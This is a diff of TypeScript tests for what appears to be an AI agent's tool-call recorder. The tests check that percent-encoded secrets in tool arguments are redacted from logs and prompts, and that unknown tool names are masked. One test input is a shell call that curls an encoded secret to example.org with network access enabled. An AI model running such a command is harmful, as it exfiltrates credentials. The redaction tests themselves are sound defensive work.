@@ -104,3 +104,57 @@ test.each([
   for (const secret of secrets) expect([secret, kept.includes(secret)]).toEqual([secret, false]);
   expect(kept).toContain(tool);
 });
+
+/** Every byte of it by its number, as an address may have it. */
+const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
+
+test.each([
+  ["read_file", { path: percent(KEY) }],
+  ["read_file", { path: `docs/${percent(KEY).toUpperCase()}.md` }],
+  ["read_file", { path: percent(percent(KEY)) }],
+  ["read_file", { path: `a%ff%/${percent(KEY)}` }],
+  ["read_file", { path: `x/${percent(LOGIN)}` }],
+  ["read_file", { path: `A%4bIA${KEY.slice(4)}` }],
+  ["write_file", { path: percent(KEY), content: "x" }],
+  ["write_file", { path: `docs/${percent(KEY)}/AGENTS.md`, content: "x" }],
+  ["search_file", { path: percent(KEY), pattern: "a" }],
+  ["shell", { command: `curl https://example.org/${percent(KEY)} > ${percent(KEY)}`, network_access: true }],
+])(
+  "a secret whose characters are written by their numbers in the arguments of %s %j is nowhere in evidence or prompts",
+  async (tool, args) => {
+    const kernel = await recordingKernel();
+    await kernel.call(tool, args as never);
+    const kept = await keptOf(kernel);
+    const plain = decodedAll(kept);
+    for (const secret of [KEY, PASSWORD]) expect([secret, plain.includes(secret)]).toEqual([secret, false]);
+    expect(kept).toContain(tool);
+  },
+);
+
+/** What whoever reads the records can make of them. */
+function decodedAll(text: string): string {
+  const once = (one: string) => one.replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
+  return `${text}${once(text)}${once(once(text))}`;
+}
+
+test("a path in which nothing is hidden is recorded as it was written", async () => {
+  const kernel = await recordingKernel();
+  await kernel.call("read_file", { path: "docs/100%25 %C3%A4.md" });
+  expect(await keptOf(kernel)).toContain("docs/100%25 %C3%A4.md");
+});
+
+test.each([percent(KEY), `${KEY}\u200b`, Buffer.from(KEY).toString("base64"), `read file ${PASSWORD}`, "Ünbekannt", "x".repeat(65)])(
+  "the name of an unknown tool is recorded only where it could be one: %j",
+  async (tool) => {
+    const kernel = await recordingKernel();
+    await kernel.call(tool, {});
+    const kept = await keptOf(kernel);
+    expect([kept.includes(tool), kept.includes(`(no tool's name, ${tool.length} characters)`)]).toEqual([false, true]);
+  },
+);
+
+test("the control: a name that could be a tool's is recorded", async () => {
+  const kernel = await recordingKernel();
+  await kernel.call("read_everything", {});
+  expect(await keptOf(kernel)).toContain("read_everything");
+});
